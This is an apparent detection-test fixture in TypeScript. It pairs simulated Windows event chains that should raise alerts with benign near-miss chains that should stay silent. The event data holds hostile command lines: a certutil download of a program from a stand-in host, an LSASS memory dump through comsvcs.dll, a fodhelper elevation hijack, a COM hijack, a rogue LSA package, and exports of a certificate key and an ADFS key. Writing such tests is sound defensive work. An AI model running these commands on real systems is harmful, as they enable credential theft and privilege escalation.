import {
  access,
  type ChainCase,
  connect,
  file,
  INSIDE,
  load,
  OUTSIDE,
  PUBLIC,
  S32,
  start,
  thread,
  write,
} from "./story.ts";

const CLASS = "{0A1B2C3D-1111-4222-8333-444455556666}";
const MARK = { action: "stream", contents: "[ZoneTransfer] ZoneId=3 HostUrl=https://files.example.net/a.hta" };

/** Cases of our own chains. */
export const OWN: readonly ChainCase[] = [
  {
    chain: "follow-on/bare-start",
    fires: [start(0, "R", "rundll32.exe", "rundll32.exe"), start(1800, "C", "cmd.exe", "cmd.exe", "R")],
    silent: [start(0, "R", "rundll32.exe", "rundll32.exe"), start(4000, "C", "cmd.exe", "cmd.exe", "R")],
  },
  {
    chain: "follow-on/bare-connection",
    fires: [start(0, "R", "regsvr32.exe", "regsvr32.exe"), connect(60, "R", "regsvr32.exe", OUTSIDE)],
    silent: [start(0, "R", "regsvr32.exe", "regsvr32.exe"), connect(60, "R", "regsvr32.exe", INSIDE)],
  },
  {
    chain: "follow-on/panel-child",
    fires: [start(0, "C", "control.exe", `"${S32}control.exe"`), start(3, "N", "notepad.exe", "notepad.exe", "C")],
    silent: [
      start(0, "C", "control.exe", `"${S32}control.exe"`),
      start(1, "R", "rundll32.exe", "rundll32.exe Shell32.dll,Control_RunDLL", "C"),
    ],
  },
  {
    chain: "follow-on/custom-action",
    fires: [
      start(0, "M", "msiexec.exe", `${S32}msiexec.exe /V`),
      connect(4, "M", "msiexec.exe", OUTSIDE),
      start(8, "C", "C:\\Windows\\Installer\\MSIA1.tmp", '"C:\\Windows\\Installer\\MSIA1.tmp"', "M"),
    ],
    silent: [
      start(0, "M", "msiexec.exe", `${S32}msiexec.exe /V`),
      start(8, "C", "C:\\Windows\\Installer\\MSIA1.tmp", '"C:\\Windows\\Installer\\MSIA1.tmp"', "M"),
    ],
  },
  {
    chain: "follow-on/inf-script",
    fires: [
      start(0, "I", "InfDefaultInstall.exe", `InfDefaultInstall.exe ${PUBLIC}Downloads\\a.inf`, "X", "explorer.exe"),
      load(1, "I", "InfDefaultInstall.exe", `${S32}scrobj.dll`, true),
    ],
    silent: [
      start(0, "I", "InfDefaultInstall.exe", `InfDefaultInstall.exe ${PUBLIC}Downloads\\a.inf`, "X", "explorer.exe"),
      load(1, "I", "InfDefaultInstall.exe", `${S32}setupapi.dll`, true),
      start(2, "R", "runonce.exe", "runonce.exe -r", "I"),
    ],
  },
  {
    chain: "follow-on/package-shell",
    fires: [
      start(8, "C", "C:\\Windows\\Installer\\MSIA1.tmp", '"C:\\Windows\\Installer\\MSIA1.tmp"', "M", "msiexec.exe"),
      start(9, "D", "cmd.exe", "cmd.exe", "C"),
    ],
    silent: [
      start(8, "C", "C:\\Windows\\Installer\\MSIA1.tmp", '"C:\\Windows\\Installer\\MSIA1.tmp"', "M", "msiexec.exe"),
      start(9, "D", "conhost.exe", "conhost.exe 0x4", "C"),
    ],
  },
  {
    chain: "follow-on/marked-download",
    fires: [
      file(0, "B", "chrome.exe", `${PUBLIC}a.hta`),
      file(1, "B", "chrome.exe", `${PUBLIC}a.hta:Zone.Identifier`, MARK),
      start(60, "M", "mshta.exe", `mshta.exe ${PUBLIC}a.hta`, "X", "explorer.exe"),
    ],
    silent: [
      file(0, "B", "chrome.exe", `${PUBLIC}a.hta`),
      start(60, "M", "mshta.exe", `mshta.exe ${PUBLIC}a.hta`, "X", "explorer.exe"),
    ],
  },
  {
    chain: "follow-on/fetched-program",
    fires: [
      start(0, "U", "certutil.exe", `certutil -urlcache -f https://files.example.net/a.exe ${PUBLIC}a.exe`),
      file(2, "U", "certutil.exe", `${PUBLIC}a.exe`),
      start(30, "A", `${PUBLIC}a.exe`, `${PUBLIC}a.exe`),
    ],
    silent: [
      start(0, "U", "certutil.exe", `certutil -urlcache -f https://files.example.net/a.crl ${PUBLIC}a.crl`),
      file(2, "U", "certutil.exe", `${PUBLIC}a.crl`),
      start(30, "A", `${PUBLIC}a.exe`, `${PUBLIC}a.exe`),
    ],
  },
  {
    chain: "follow-on/redirected",
    fires: [
      write(0, "P", "reg.exe", `HKCU\\Software\\Classes\\CLSID\\${CLASS}\\InprocServer32\\(Default)`, `${PUBLIC}a.dll`),
      start(60, "R", "rundll32.exe", `rundll32 -sta ${CLASS}`, "P", "cmd.exe"),
    ],
    silent: [
      write(0, "P", "msiexec.exe", `HKCU\\Software\\Classes\\CLSID\\${CLASS}\\InprocServer32\\(Default)`, "C:\\a.dll"),
      start(60, "R", "rundll32.exe", `rundll32 -sta ${CLASS}`, "P", "cmd.exe"),
    ],
  },
  {
    chain: "follow-on/raised-without-asking",
    fires: [
      write(0, "P", "reg.exe", "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)", "cmd.exe /c x"),
      start(5, "F", "fodhelper.exe", "fodhelper.exe", "P", "cmd.exe"),
      start(6, "C", "cmd.exe", "cmd.exe /c x", "F"),
    ],
    silent: [
      start(5, "F", "fodhelper.exe", "fodhelper.exe", "P", "explorer.exe"),
      start(6, "C", "cmd.exe", "cmd.exe", "F"),
    ],
  },
  {
    chain: "follow-on/remote-thread",
    fires: [
      start(0, "R", "rundll32.exe", `rundll32 ${PUBLIC}a.dll,Run`, "P", "cmd.exe"),
      thread(3, "R", "rundll32.exe", "N", "notepad.exe"),
    ],
    silent: [
      start(0, "R", "rundll32.exe", `rundll32 ${PUBLIC}a.dll,Run`, "P", "cmd.exe"),
      access(3, "R", "rundll32.exe", "N", "notepad.exe"),
    ],
  },
  {
    chain: "credential-material/exported-key",
    fires: [start(0, "U", "certutil.exe", `certutil -p x -exportPFX my ${PUBLIC}k.pfx`, "P", "cmd.exe")],
    silent: [start(0, "U", "certutil.exe", "certutil -store my", "P", "cmd.exe")],
  },
  {
    chain: "credential-material/memory-of-lsass",
    fires: [
      start(0, "R", "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 600 C:\\x.bin full", "P", "cmd.exe"),
      access(1, "R", "rundll32.exe", "L", "lsass.exe"),
      file(2, "R", "rundll32.exe", "C:\\x.bin"),
    ],
    silent: [
      start(0, "R", "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 600 C:\\x.bin full", "P", "cmd.exe"),
      access(1, "R", "rundll32.exe", "N", "notepad.exe"),
    ],
  },
  {
    chain: "credential-material/stored-logons",
    fires: [start(0, "R", "rundll32.exe", "rundll32.exe keymgr.dll,KRShowKeyMgr", "P", "powershell.exe")],
    silent: [start(0, "R", "rundll32.exe", "rundll32.exe keymgr.dll,KRShowKeyMgr", "P", "explorer.exe")],
  },
  {
    chain: "credential-material/security-package",
    fires: [
      write(0, "G", "reg.exe", "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Security Packages", "kerberos evil"),
    ],
    silent: [
      write(0, "G", "tiworker.exe", "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Security Packages", "x"),
      write(
        1,
        "H",
        "reg.exe",
        "HKLM\\System\\CurrentControlSet\\Control\\NetworkProvider\\Order\\PROVIDERORDER",
        "RDPNP,LanmanWorkstation,webclient",
      ),
    ],
  },
  {
    chain: "credential-material/root-certificate",
    fires: [
      write(
        0,
        "G",
        "certutil.exe",
        "HKLM\\Software\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\AB12\\Blob",
        "x",
      ),
    ],
    silent: [
      write(
        0,
        "G",
        "svchost.exe",
        "HKLM\\Software\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\AB12\\Blob",
        "x",
      ),
    ],
  },
  {
    chain: "credential-material/federation-key",
    fires: [start(0, "L", "ldifde.exe", 'ldifde -f x.txt -d "CN=ADFS,CN=Microsoft,CN=Program Data,DC=e,DC=net"')],
    silent: [start(0, "L", "ldifde.exe", 'ldifde -f x.txt -d "OU=Staff,DC=e,DC=net"')],
  },
];
